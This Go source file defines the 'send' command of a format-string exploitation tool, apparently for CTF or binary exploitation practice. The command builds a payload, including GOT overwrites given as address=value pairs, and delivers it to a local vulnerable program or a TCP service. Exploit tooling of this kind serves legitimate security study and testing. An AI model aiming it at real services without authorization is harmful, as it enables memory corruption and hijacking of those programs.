package main

import (
	"errors"
	"fmt"
	"os/exec"

	"github.com/spf13/cobra"
	"gitlab.com/stephen-fox/fmtkit/process"
)

const (
	execArg = "exec"
	dialArg = "dial"
)

func newSendCmd() *cobra.Command {
	opts := &payloadOptions{}
	var execPath string
	var dialAddr string
	var readLines int

	cmd := &cobra.Command{
		Use:   "send",
		Short: "Build a format string and send it to a program",
		Long: `Builds a format string like the build command, writes it to a program's
input as a single line, and prints the program's output up to the end of
the payload's marker. The program is either started locally or dialed
over TCP.`,
		Example: `  fmtstr send --exec ./vuln -w 8 -o 7 --set 0x601018=0x401136
  fmtstr send --dial 127.0.0.1:1337 --plan got-overwrite.yaml --read-lines 1`,
		Args: cobra.NoArgs,
		RunE: func(cmd *cobra.Command, args []string) error {
			if (execPath == "") == (dialAddr == "") {
				return errors.New("exactly one of --exec or --dial must be specified")
			}

			w, payload, err := opts.build(cmd)
			if err != nil {
				return err
			}

			writeSummary(cmd.ErrOrStderr(), w, payload)

			var proc *process.Process
			if execPath != "" {
				proc, err = process.Start(exec.CommandContext(cmd.Context(), execPath))
			} else {
				proc, err = process.Dial("tcp", dialAddr)
			}
			if err != nil {
				return err
			}
			defer proc.Close()

			proc.SetLogger(opts.logger(cmd.ErrOrStderr()))

			for i := 0; i < readLines; i++ {
				line, err := proc.ReadLine()
				if err != nil {
					return fmt.Errorf("failed to read line %d of program output - %w", i, err)
				}

				_, err = cmd.OutOrStdout().Write(line)
				if err != nil {
					return fmt.Errorf("failed to write program output - %w", err)
				}
			}

			output, err := payload.SendTo(proc)
			if err != nil {
				return err
			}

			_, err = cmd.OutOrStdout().Write(output)
			if err != nil {
				return fmt.Errorf("failed to write program output - %w", err)
			}

			success.Fprintf(cmd.ErrOrStderr(), "\nfound marker after %d bytes of output\n", len(output))

			return nil
		},
	}

	opts.addFlags(cmd)
	cmd.Flags().StringVar(&execPath, execArg, "",
		"The program to start")
	cmd.Flags().StringVar(&dialAddr, dialArg, "",
		"The address of a TCP server to connect to ('host:port')")
	cmd.Flags().IntVar(&readLines, "read-lines", 0,
		"The number of lines to read from the program before sending the payload")

	return cmd
}
